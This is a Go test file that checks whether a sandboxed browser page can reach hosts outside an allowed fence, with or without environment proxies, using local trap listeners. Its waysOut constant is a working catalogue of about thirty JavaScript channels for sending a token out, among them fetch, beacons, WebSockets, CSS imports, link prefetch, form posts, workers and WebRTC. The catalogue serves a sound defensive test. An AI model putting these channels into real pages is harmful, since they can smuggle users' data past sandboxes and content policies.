package browser_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/webchatspec/webchatspec/browser"
	"github.com/webchatspec/webchatspec/fixtures/keys"
)

// waysOut are what a page can do to send something to a host: HOST is its address
// and DATAGRAMS that of a listener for UDP there.
const waysOut = `
fetch("http://HOST/fetch?t=" + token, {mode: "no-cors"}).catch(() => {});
fetch("http://HOST/keepalive?t=" + token, {mode: "no-cors", keepalive: true}).catch(() => {});
try { const x = new XMLHttpRequest(); x.open("GET", "http://HOST/xhr?t=" + token); x.send(); } catch {}
navigator.sendBeacon("http://HOST/beacon", token);
try { new WebSocket("ws://HOST/websocket?t=" + token); } catch {}
try { new EventSource("http://HOST/eventsource?t=" + token); } catch {}
try { new WebTransport("https://DATAGRAMS/webtransport?t=" + token).closed.catch(() => {}); } catch {}
new Image().src = "http://HOST/image?t=" + token;
new Audio("http://HOST/audio?t=" + token).load();
import("http://HOST/import.js?t=" + token).catch(() => {});
const add = (name, attributes, text) => {
	const e = document.createElement(name);
	for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
	if (text) e.textContent = text;
	document.body.append(e);
	return e;
};
add("script", {src: "http://HOST/script.js?t=" + token});
add("iframe", {src: "http://HOST/iframe?t=" + token});
add("object", {data: "http://HOST/object?t=" + token});
add("embed", {src: "http://HOST/embed?t=" + token});
add("video", {src: "http://HOST/video?t=" + token, poster: "http://HOST/poster?t=" + token});
add("style", {}, "@import url(http://HOST/import.css?t=" + token + "); body { background: url(http://HOST/background?t=" + token + ") } @font-face { font-family: f; src: url(http://HOST/font?t=" + token + ") } p { font-family: f }");
add("p", {}, "text in that font");
for (const rel of ["stylesheet", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest"])
	add("link", {rel, href: "http://HOST/" + rel + "?t=" + token});
add("link", {rel: "preload", as: "image", href: "http://HOST/preload?t=" + token});
add("script", {type: "speculationrules"}, JSON.stringify({prefetch: [{source: "list", urls: ["http://HOST/speculation?t=" + token]}]}));
add("a", {href: "#ping", ping: "http://HOST/ping?t=" + token}).click();
add("iframe", {name: "form"});
const form = add("form", {action: "http://HOST/form", method: "post", target: "form"});
form.innerHTML = "<input name=t value=" + token + ">";
form.submit();
add("iframe", {srcdoc: "<meta http-equiv=refresh content='0; url=http://HOST/refresh?t=" + token + "'>"});
try { new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/worker?t=" + token + "', {mode: 'no-cors'}).catch(() => {}); importScripts('http://HOST/importscripts?t=" + token + "')"]))); } catch {}
try { new SharedWorker("data:text/javascript,fetch('http://HOST/sharedworker?t=" + token + "', {mode: 'no-cors'}).catch(() => {})"); } catch {}
for (const urls of ["stun:DATAGRAMS", "turn:DATAGRAMS?transport=udp", "turn:HOST?transport=tcp", "turns:HOST?transport=tcp"]) {
	try {
		const peer = new RTCPeerConnection({iceServers: [{urls, username: token, credential: token}]});
		peer.createDataChannel("out");
		peer.createOffer().then(offer => peer.setLocalDescription(offer));
		const [ip, port] = "DATAGRAMS".split(":");
		peer.createOffer().then(() => peer.addIceCandidate({candidate: "candidate:1 1 udp 1 " + ip + " " + port + " typ host ufrag " + token, sdpMid: "0"})).catch(() => {});
	} catch {}
}
`

// trap counts what arrives at an address.
type trap struct {
	host, datagrams string
	connections     atomic.Int64
	packets         atomic.Int64
	mu              sync.Mutex
	paths           map[string]bool
}

func setTrap(t *testing.T, ip string) *trap {
	t.Helper()
	tr := &trap{paths: map[string]bool{}}
	listener, err := net.Listen("tcp", ip+":0")
	if err != nil {
		t.Skipf("there is no other address of this machine to listen on: %v", err)
	}
	packets, err := net.ListenPacket("udp", ip+":0")
	if err != nil {
		t.Fatal(err)
	}
	server := &httptest.Server{Listener: listener, Config: &http.Server{
		Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			tr.mu.Lock()
			defer tr.mu.Unlock()
			tr.paths[r.URL.Path] = true
		}),
		ConnState: func(_ net.Conn, state http.ConnState) {
			if state == http.StateNew {
				tr.connections.Add(1)
			}
		},
	}}
	server.Start()
	go func() {
		for buffer := make([]byte, 2048); ; {
			if _, _, err := packets.ReadFrom(buffer); err != nil {
				return
			}
			tr.packets.Add(1)
		}
	}()
	t.Cleanup(func() { server.CloseClientConnections(); server.Close(); _ = packets.Close() })
	tr.host, tr.datagrams = listener.Addr().String(), packets.LocalAddr().String()
	return tr
}

// A page reaches no host that is not allowed, whatever it tries, and no proxy of
// the environment helps it. What it tries works where it is allowed.
func TestNothingLeavesTheFence(t *testing.T) {
	for name, proxied := range map[string]bool{"without a proxy": false, "with a proxy": true} {
		t.Run(name, func(t *testing.T) {
			outside, proxy, allowed := setTrap(t, "127.0.0.3"), setTrap(t, "127.0.0.4"), setTrap(t, "127.0.0.1")
			for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"} {
				value := ""
				if proxied {
					value = "http://" + proxy.host
				}
				t.Setenv(name, value)
			}
			tryEveryWayOut(t, outside, allowed)
			for name, trap := range map[string]*trap{"a host that is not allowed": outside, "the proxy of the environment": proxy} {
				if connections, packets := trap.connections.Load(), trap.packets.Load(); connections+packets > 0 {
					t.Errorf("%s got %d connections and %d datagrams: %v", name, connections, packets, trap.paths)
				}
			}
			if packets := allowed.packets.Load(); packets > 0 {
				t.Errorf("%d datagrams were sent, which no fence sees", packets)
			}
			if len(allowed.paths) < 20 {
				t.Errorf("only %d ways reach the host that is allowed, so that the others prove nothing: %v", len(allowed.paths), allowed.paths)
			}
		})
	}
}

// tryEveryWayOut opens a page that tries every way out, to each of the hosts.
func tryEveryWayOut(t *testing.T, hosts ...*trap) {
	t.Helper()
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!doctype html><body><script>const token = 'c2VjcmV0';</script>")
		for _, to := range hosts {
			fmt.Fprintf(w, "<script>{%s}</script>", strings.NewReplacer("HOST", to.host, "DATAGRAMS", to.datagrams).Replace(waysOut))
		}
	}))
	defer site.Close()
	page, err := browser.Gather(t.Context(), browser.Config{
		Page: site.URL, PublicKeys: []string{keys.PublicPEM(&keys.For("fence").PublicKey)}, Timeout: 4 * time.Second,
	}, nil)
	if page == nil || len(page.Visits) == 0 {
		t.Fatalf("the page was not visited: %v", err)
	}
}
